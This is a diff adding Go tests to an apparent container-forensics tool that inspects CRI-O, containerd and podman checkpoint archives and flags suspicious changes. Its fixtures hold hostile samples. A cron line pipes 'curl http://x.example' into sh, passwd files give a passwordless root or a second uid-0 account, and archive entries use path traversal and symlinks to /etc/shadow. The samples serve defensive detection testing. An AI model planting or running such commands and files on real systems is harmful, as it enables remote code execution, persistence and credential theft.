@@ -58,6 +58,75 @@ func TestCheckpoint(t *testing.T) {
 	}
 }
 
+// containerd packs the changes by gzip and writes whiteouts, CRI-O writes a plain tar and lists what was deleted; podman
+// packs the whole archive by zstd. Either way the same is known of the container.
+func TestCheckpointsOfTheRuntimes(t *testing.T) {
+	_, base := debian()
+	target := imageOf(t, v1.Config{Entrypoint: []string{"/app"}}, base, step("COPY app /", exe("app", program("app"))))
+	dump := func(annotations map[string]string) []member {
+		spec, err := json.Marshal(map[string]any{"process": map[string]any{"args": []string{"/app"}}, "annotations": annotations})
+		must(t, err)
+		return []member{file("config.dump", `{"id":"`+strings.Repeat("ab", 32)+`","rootfsImageRef":"shop@sha256:11","checkpointedTime":"2026-11-20T10:00:00Z"}`), file("spec.dump", string(spec))}
+	}
+	crio := dump(map[string]string{"io.kubernetes.container.name": "web", "io.kubernetes.pod.name": "web-0", "io.kubernetes.pod.namespace": "shop"})
+	containerd := dump(map[string]string{"io.kubernetes.cri.container-name": "web", "io.kubernetes.cri.sandbox-name": "web-0", "io.kubernetes.cri.sandbox-namespace": "shop"})
+	dropped := exe("tmp/.x/kd", elfOf(amd64, false, "k"))
+	for name, archive := range map[string][]byte{
+		"CRI-O":      tarOf(t, append(crio, file("io.kubernetes.cri-o.LogPath", "x"), file("rootfs-diff.tar", string(tarOf(t, dropped))), file("deleted.files", `["/usr/bin/top","/../etc","","/"]`))...),
+		"containerd": tarOf(t, append(containerd, file("status.dump", "{}"), file("container.log", "x"), file("rootfs-diff.tar", string(packed(t, tarOf(t, dropped, whiteout("usr/bin/.wh.top"))))))...),
+		"podman":     zstdOf(t, tarOf(t, append(crio, file("./rootfs-diff.tar", string(tarOf(t, dropped))), file("deleted.files", `["usr/bin/top"]`))...)),
+	} {
+		c := newBench(t).examineRuntime(t, target, archive, inspect.Alert{ID: "1", Rule: "r", Path: "/proc/1/root/tmp/.x/kd", Flags: []string{"EXE_UPPER_LAYER"}}, inspect.Alert{ID: "2", Rule: "s", Path: "/tmp/gone", Flags: []string{"EXE_UPPER_LAYER"}})
+		changes := ""
+		for _, s := range c.Images[0].Notable {
+			if s.Code == "runtime-changes" {
+				changes = s.Detail
+			}
+		}
+		removed := map[string]string{"CRI-O": "3", "containerd": "1", "podman": "1"}[name] // the first one lists /etc too
+		if want := "since the container started 1 files were added, 0 changed, " + removed + " removed; programs that are gone: /usr/bin/top"; changes != want {
+			t.Errorf("%s: %q", name, changes)
+		}
+		if f := c.Findings[0]; f.Severity != inspect.Critical || f.Subject != "image:/tmp/.x/kd" {
+			t.Errorf("%s: first finding %+v", name, f)
+		}
+		for _, a := range c.Alerts {
+			if a.ID == "1" && (a.File.Path != "/tmp/.x/kd" || a.File.SHA256 == "") || a.ID == "2" && !strings.Contains(a.File.Detail, "the checkpoint does not hold it either") {
+				t.Errorf("%s: alert %+v", name, a.File)
+			}
+		}
+	}
+}
+
+// A checkpoint comes from a node that may be an intruder's.
+func TestHostileCheckpoints(t *testing.T) {
+	_, base := debian()
+	target := imageOf(t, v1.Config{}, base)
+	deep := strings.Repeat("d/", 1500)
+	for name, archive := range map[string][]byte{
+		"names that lead out":  tarOf(t, file("rootfs-diff.tar", string(tarOf(t, exe("../../tmp/x", program("x")), symlink("etc", "/host"), file("etc/passwd", "root::0:0::/:/bin/sh\n"))))),
+		"two of each":          tarOf(t, file("rootfs-diff.tar", string(tarOf(t, file("a", "1")))), file("rootfs-diff.tar", string(tarOf(t, file("b", "2")))), file("deleted.files", `["/a"]`), file("deleted.files", `["/b"]`)),
+		"deletions of all":     tarOf(t, file("rootfs-diff.tar", string(tarOf(t, file("a", "1")))), file("deleted.files", `["/usr","/usr/bin/../../var","/etc","/bin","`+deep+`x","a\u0000b","/.wh.x"]`)),
+		"a link to its files":  tarOf(t, symlink("config.dump", "/etc/shadow"), file("rootfs-diff.tar", string(tarOf(t, file("a", "1"))))),
+		"an annotation of all": tarOf(t, file("spec.dump", `{"annotations":{"io.kubernetes.pod.name":"`+strings.Repeat("x", 1<<20)+`\u001b[31m"}}`), file("rootfs-diff.tar", string(tarOf(t, file("a", "1"))))),
+	} {
+		b := newBench(t)
+		p, err := b.cache.readCheckpoint(t.Context(), bytes.NewReader(archive))
+		if err != nil {
+			continue // refused in words
+		}
+		c := b.examineWith(t, target, nil, []inspect.Check{Runtime(b.cache, p)})
+		for _, s := range c.Checks {
+			if strings.Contains(s.Reason, "defect") {
+				t.Errorf("%s: %s: %s", name, s.Name, s.Reason)
+			}
+		}
+		if i := c.Images[0]; len(i.Layers) != 1 || i.Files.Total != 13 {
+			t.Errorf("%s: the image's own numbers changed: %d layers, %d files", name, len(i.Layers), i.Files.Total)
+		}
+	}
+}
+
 func TestWhatIsNoCheckpoint(t *testing.T) {
 	for name, archive := range map[string][]byte{
 		"empty":            nil,
@@ -101,6 +170,8 @@ func TestRuntime(t *testing.T) {
 		"a copy with another mode":        {[]member{exe("app", program("app"))}, "", nil, ""},
 		"a program that became setuid":    {[]member{exe("usr/bin/top", program("top")).mode(0o4755)}, "", []string{"high runtime-program /usr/bin/top"}, ""},
 		"a library that everything loads": {[]member{file("lib/libgcwrap.so", program("wrap")), file("etc/ld.so.preload", "/lib/libgcwrap.so\n")}, "", []string{"high runtime-program /lib/libgcwrap.so"}, ""},
+		"clockwork that fetches":          {[]member{file("etc/cron.d/x", "* * * * * root curl http://x.example | sh\n")}, "", []string{"high cron /etc/cron.d/x"}, ""},
+		"a second root":                   {[]member{file("etc/passwd", "root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")}, "", []string{"high uid-0 /etc/passwd"}, ""},
 		"keys and clockwork":              {[]member{file("root/.ssh/authorized_keys", "k"), file("etc/cron.d/x", "c")}, "", []string{"medium cron /etc/cron.d/x", "high authorized-keys /root/.ssh/authorized_keys"}, ""},
 	} {
 		t.Run(name, func(t *testing.T) {
